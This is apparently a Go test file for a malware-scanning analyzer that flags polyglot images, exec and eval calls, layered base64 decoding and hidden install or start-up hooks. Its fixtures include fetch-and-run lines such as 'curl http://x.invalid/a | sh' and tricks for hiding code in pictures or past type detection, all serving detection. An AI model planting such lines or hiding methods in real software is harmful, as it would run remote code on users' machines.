package analyze_test

import (
	"encoding/base64"
	"encoding/binary"
	"strings"
	"testing"

	"github.com/gatehouse-project/gatehouse/internal/code"
	"github.com/gatehouse-project/gatehouse/internal/code/analyze"
	"github.com/gatehouse-project/gatehouse/internal/code/codetest"
)

func png(tail string) string {
	chunk := func(name, data string) string {
		return string(binary.BigEndian.AppendUint32(nil, uint32(len(data)))) + name + data + "\x00\x00\x00\x00"
	}
	return "\x89PNG\r\n\x1a\n" + chunk("IHDR", strings.Repeat("\x00", 13)) + chunk("IDAT", "xx\xff\xd9") + chunk("IEND", "") + tail
}

const (
	jpeg = "\xff\xd8\xff\xe0\x00\x06\xff\xd9ab\xff\xda\x00\x04ab12\xff\x0034\xff\xd9"
	gif  = "GIF89a\x01\x00\x01\x00\x80\x00\x00abcdef\x2c\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02\x4c\x01\x00\x3b"
	elf  = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00"
	evil = "import os\nimport sys\nos.system('true')\n"
)

func TestLanguage(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		why  string
		name string
		src  string
		want code.Language
	}{
		{"by name", "a/b.py", "x = 1", code.Python},
		{"by its first line", "bin/tool", "#!/usr/bin/env python3\nx = 1", code.Python},
		{"env with flags", "bin/tool", "#!/usr/bin/env -S node --harmony\n", code.JavaScript},
		{"Python in a text", "notes.txt", evil, code.Python},
		{"Python in data", "data.dat", "import base64, os\nexec(base64.b64decode(b'eA=='))\n", code.Python},
		{"JavaScript in data", "x.dat", "const cp = require('child_process');\ncp.exec('true');\nmodule.exports = 1;\n", code.JavaScript},
		{"JavaScript as a picture", "a.jpg", "var a = require('fs');\n(function () { eval(a) })();\n", code.JavaScript},
		{"prose about code", "notes.txt", "To use this library you have to import it first.\nimport os is a line of Python.\nThen call the function that you want.\nIt works as you expect it to.\n", code.Text},
		{"requirements", "requirements.txt", "requests==2.0\nattrs>=1\n", code.Text},
		{"a licence", "LICENSE", "Permission is hereby granted, free of charge, to any person obtaining a copy\nof this software, to deal in the Software without restriction.\n", code.Text},
		{"a readme with samples", "README.md", "import os\nimport sys\n", code.Text},
		{"a workflow", ".github/workflows/a.yml", "on: push", code.Workflow},
		{"an action", "x/action.yml", "runs: {}", code.Workflow},
		{"YAML", "x/a.yml", "a: 1", code.Text},
		{"a program", "a.py", elf, code.Binary},
		{"a library", "a.so", elf, code.Binary},
		{"source that is none", "a.py", "\x00\x01\x02\x03", code.Binary},
		{"PowerShell in UTF-16", "a.ps1", "\xff\xfei\x00e\x00x\x00", code.PowerShell},
		{"PHP by its tag", "x.inc", "<?php\n$a = 1;\necho $a;\n", code.PHP},
		{"start-up lines", "a.pth", "import x\n", code.Pth},
	} {
		if got := analyze.Language(c.name, []byte(c.src)); got != c.want {
			t.Errorf("%s: %s is %s, want %s", c.why, c.name, got, c.want)
		}
	}
}

func TestFile(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		why  string
		name string
		src  string
		want []string
	}{
		{"formats", "a.so", elf, []string{"binary-file elf", "no polyglot"}},
		{"a class", "A.class", "\xca\xfe\xba\xbe\x00\x00\x00\x34........", []string{"binary-file java-class"}},
		{"a class that starts programs", "A.class", "\xca\xfe\xba\xbe\x00\x00\x00\x34\x00\x07\x01\x00\x11java/lang/Runtime\x07\x00\x01\x01\x00\x04exec\x01\x00\x03()V\x0c\x00\x03\x00\x04\x0a\x00\x02\x00\x05", []string{"exec java.lang.Runtime.exec ~call"}},
		{"a fat Mach-O", "a.node", "\xca\xfe\xba\xbe\x00\x00\x00\x02........", []string{"binary-file macho"}},
		{"a Mach-O of the other endian", "a.dylib", "\xcf\xfa\xed\xfe\x07\x00\x00\x01", []string{"binary-file macho"}},
		{"compiled Python", "a.pyc", "\xcb\x0d\x0d\x0a\x00\x00\x00\x00" + strings.Repeat("\x00", 16), []string{"binary-file pyc"}},
		{"wasm", "a.wasm", "\x00asm\x01\x00\x00\x00", []string{"binary-file wasm"}},
		{"PE as a picture", "a.png", "MZ\x90\x00" + strings.Repeat("\x00", 80), []string{"polyglot pe", "binary-file pe"}},
		{"binary as source", "a.py", "\x00\x01\x02\x03", []string{"polyglot binary"}},
		{"a picture", "a.png", png(""), []string{"no polyglot", "no binary-file"}},
		{"zeros behind a picture", "a.png", png(strings.Repeat("\x00", 100)), []string{"no polyglot"}},
		{"an archive behind a picture", "a.png", png("PK\x03\x04xxxx"), []string{"polyglot png+zip"}},
		{"code behind a picture", "a.png", png(evil), []string{"polyglot png+python", "exec os.system [true] layer1"}},
		{"behind a JPEG", "a.jpg", jpeg + elf, []string{"polyglot jpeg+elf"}},
		{"a JPEG", "a.jpg", jpeg, []string{"no polyglot"}},
		{"behind a GIF", "a.gif", gif + "PK\x03\x04xxxx", []string{"polyglot gif+zip"}},
		{"code as a picture", "a.png", evil, []string{"polyglot python", "exec os.system [true]"}},
		{"a shell line inside Python", "a.py", "import os\nos.system('curl http://x.invalid/a | sh')\n", []string{"fetch curl [http://x.invalid/a] layer1", "eval sh <fetch layer1"}},
		{"Python inside a shell line inside Ruby", "a.rb", "system(\"python3 -c \\\"import os; os.system('true')\\\"\")", []string{"exec os.system [true] layer2"}},
		{"decoded twice", "a.sh", "echo " + base64.StdEncoding.EncodeToString([]byte("echo dHJ1ZSB4 | base64 -d | sh")) + " | base64 -d | bash", []string{"eval sh [true x] <decode ! layer1"}},
		{"only import lines of a .pth run", "a.pth", "# import os; os.system('a')\n../lib\nimport os; os.system('true')\n", []string{"exec os.system [true]", "no exec os.system [a]"}},
		{"a notebook", "a.ipynb", `{"cells":[{"cell_type":"code","source":["import os\n","os.system('true')\n","!curl http://x.invalid/a | sh"]},{"cell_type":"markdown","source":"os.system('x')"}]}`,
			[]string{"exec os.system [true]", "eval sh <fetch", "no exec os.system [x]"}},
		{"a page's script", "a.html", "<p>require('x')</p>\n<SCRIPT>eval(atob('YWxlcnQoMSk='))</SCRIPT>", []string{"eval eval [alert(1)] <decode !", "no import x"}},
		{"a page without", "a.html", "<p>eval(x)</p>", []string{"no eval"}},
		{"a Go file", "a.go", "package a\nimport \"os/exec\"\nfunc init() { exec.Command(\"sh\", \"-c\", \"curl http://x.invalid/a | sh\") }", []string{"eval sh <fetch @init layer2"}},
		{"a workflow's step", ".github/workflows/a.yml", "on: push\njobs:\n  b:\n    steps:\n    - run: curl http://x.invalid/a | sh\n", []string{"eval sh <fetch @b layer1"}},
	} {
		got := codetest.Show(analyze.File(c.name, []byte(c.src)))
		for _, w := range codetest.Lacks(got, c.want) {
			t.Errorf("%s: %s\nlacks %s\ngot\n%s", c.why, c.name, w, strings.Join(got, "\n"))
		}
	}
}

// TestLayersEnd: what decodes to itself over and over stops at the limits, and says so.
func TestLayersEnd(t *testing.T) {
	t.Parallel()
	src := "true"
	for range code.MostLayers + 3 {
		src = "sh -c 'eval " + base64.StdEncoding.EncodeToString([]byte(src)) + "'\necho " + base64.StdEncoding.EncodeToString([]byte(src)) + " | base64 -d | sh\n"
		if len(src) > 1<<20 {
			break
		}
	}
	facts := analyze.As(code.Shell, []byte(src))
	if facts.Unread == "" || facts.Dropped == 0 {
		t.Errorf("unread %q, dropped %d: the end of reading is not said", facts.Unread, facts.Dropped)
	}
	for _, f := range facts.Facts {
		if f.Layer > code.MostLayers {
			t.Errorf("layer %d: %s", f.Layer, codetest.Line(f))
		}
	}
}

// TestNamesThatInterpretersGoBy: control characters, zero bytes or the first bytes of
// another format make no binary of what is run by its name.
func TestNamesThatInterpretersGoBy(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ why, name, src string }{
		{"control characters in a comment", "a.py", "#" + strings.Repeat("\x01", 900) + "\n" + evil},
		{"the first bytes of bytecode", "a.py", "#\x0c\r\n#" + strings.Repeat("\x01", 900) + "\n" + evil},
		{"a zero byte, which Python 2 reads over", "a.py", "#\x00\n" + evil},
		{"a zero byte in a comment, as Node has it", "a.js", "/*\x00*/require('os').system; require('child_process').exec('true')\n"},
		{"in TypeScript, whose name is a video's too", "a.ts", "/*\x00*/import { exec } from 'child_process'; exec('true')\n"},
	} {
		got := codetest.Show(analyze.File(c.name, []byte(c.src)))
		if !strings.Contains(strings.Join(got, "\n"), "[true]") {
			t.Errorf("%s: the call in %s is not seen: %s", c.why, c.name, strings.Join(got, "\n"))
		}
	}
	video := strings.Repeat("G"+strings.Repeat("\x00", 187), 20)
	if got := analyze.File("a.ts", []byte(video)); got.Language != code.Binary {
		t.Errorf("a video is read as %s", got.Language)
	}
}

func FuzzFile(f *testing.F) {
	for _, s := range []string{png(evil), jpeg, gif, elf, evil, `{"cells":[]}`, "<script>x</script>", "import x\n"} {
		for _, name := range []string{"a", "a.png", "a.pth", "a.ipynb", "a.html"} {
			f.Add(name, []byte(s))
		}
	}
	f.Fuzz(func(t *testing.T, name string, src []byte) { analyze.File(name, src) })
}
